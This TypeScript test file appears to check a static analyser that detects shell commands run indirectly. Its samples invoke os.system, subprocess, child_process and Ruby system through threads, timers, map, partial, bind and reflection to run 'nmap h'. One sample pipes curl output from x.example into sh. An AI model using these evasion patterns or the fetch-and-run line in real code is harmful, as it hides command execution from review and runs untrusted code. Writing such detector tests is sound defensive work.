import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { canonical, testAnalyser } from "./test-analyser.ts";

const python: Readonly<Record<string, string>> = {
  "a thread": 'import threading, os\nthreading.Thread(target=os.system, args=("nmap h",)).start()',
  "a process, with keywords":
    'from multiprocessing import Process\nimport subprocess\nProcess(None, subprocess.run, "n", ("nmap h",), {"shell": True}).start()',
  "a timer": 'import threading, os\nthreading.Timer(5, os.system, ["nmap h"]).start()',
  "an old thread": 'import _thread, os\n_thread.start_new_thread(os.system, ("nmap h",))',
  "each item of a list": 'import os\nlist(map(os.system, ["nmap h"]))',
  "a key to sort by": 'import os\nsorted(["nmap h"], key=os.system)',
  "a part of a function": 'import os, functools\nf = functools.partial(os.system, "nmap h")\nf()',
  "a part with a keyword alone": 'import subprocess, functools\nf = functools.partial(subprocess.run, shell=True)\nf("nmap h")',
  "a part that is handed on": 'import os, functools, tool\ntool.later(functools.partial(os.system, "nmap h"))',
  "a pool":
    'import os\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as e:\n    e.submit(os.system, "nmap h")',
  "a pool over a list": 'import os, multiprocessing\nmultiprocessing.Pool(2).imap_unordered(os.system, ["nmap h"])',
  "the end of the program": 'import os, atexit\natexit.register(os.system, "nmap h")',
  "a thread of an event loop": 'import os, asyncio\nasync def f():\n    await asyncio.to_thread(os.system, "nmap h")',
  "an event loop, later": 'import os, asyncio\nasyncio.get_event_loop().call_later(5, os.system, "nmap h")',
  "its own method": 'import os\nos.system.__call__("nmap h")',
  "a function of one's own": 'import os, threading\ndef run(c):\n    os.system(c)\nthreading.Thread(target=run, args=("nmap h",)).start()',
  "a function that calls what it gets": 'import os\ndef twice(f, c):\n    f(c)\ntwice(os.system, "nmap h")',
};

const javascript: Readonly<Record<string, string>> = {
  "a timer": 'const { exec } = require("child_process");\nsetTimeout(exec, 100, "nmap h");',
  "the next turn": 'const cp = require("child_process");\nprocess.nextTick(cp.execSync, "nmap h");',
  "each item of a list": 'const cp = require("child_process");\n["nmap h"].forEach(cp.exec);',
  "its call": 'const cp = require("child_process");\ncp.exec.call(null, "nmap h");',
  "its apply": 'const cp = require("child_process");\ncp.exec.apply(cp, ["nmap h"]);',
  "its bind": 'const cp = require("child_process");\nconst f = cp.exec.bind(null, "nmap h");\nf();',
  "its bind, in two steps": 'const cp = require("child_process");\ncp.spawn.bind(null, "nmap").bind(null)(["h"]);',
  "its bind, handed on": 'const cp = require("child_process");\nprocess.on("exit", cp.exec.bind(null, "nmap h"));',
  reflection: 'const cp = require("child_process");\nReflect.apply(cp.exec, cp, ["nmap h"]);',
  "a promise of one": 'const cp = require("child_process");\nimport("tool").then(() => 1);\nArray.from(["nmap h"], cp.exec);',
};

const ruby: Readonly<Record<string, string>> = {
  "each item of a list": '["nmap h"].each(&method(:system))',
  "its call": 'm = method(:system)\nm.call("nmap h")',
};

const languages = Object.entries({ python, javascript, ruby });

describe("a function that is handed on", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });

  for (const [language, ways] of languages)
    for (const [title, text] of Object.entries(ways))
      it(`is called by ${title} (${language})`, async () => assert.deepEqual(await canonical(analyser, language, text), ["nmap -- h"]));

  it("is called with nothing that it is not given", async () => {
    assert.deepEqual(await canonical(analyser, "python", "import os, functools\nfunctools.partial(os.system)\n"), []);
    assert.deepEqual(
      await canonical(analyser, "python", 'import threading, os\nthreading.Thread(target=print, args=("nmap h",)).start()\n'),
      [],
    );
    assert.deepEqual(await canonical(analyser, "javascript", 'const f = ["nmap h"].map((x) => x.length);'), []);
    assert.deepEqual(await canonical(analyser, "javascript", '"a".constructor.toString.hasOwnProperty.call({}, "b");'), []);
  });

  it("gives what it gives to whom it is called for", async () => {
    const text =
      'import asyncio, subprocess\nasync def f():\n    out = await asyncio.to_thread(subprocess.check_output, ["curl", "https://x.example"])\n    subprocess.run(["sh"], input=out)\n';
    assert.ok((await canonical(analyser, "python", text)).some((line) => line.includes(":run sh")));
  });

  it("ends, however often functions are handed to such as hand them on", async () => {
    const nested = `import os\nf = ${"lambda g: map(g, [".repeat(12)}os.system${"])".repeat(12)}\nf(map)\n`;
    const bound = `import functools, os\np = os.system\n${"p = functools.partial(p, 'nmap h')\n".repeat(300)}p()\n`;
    for (const text of [nested, bound]) assert.ok((await canonical(analyser, "python", text)).length < 50);
  });
});
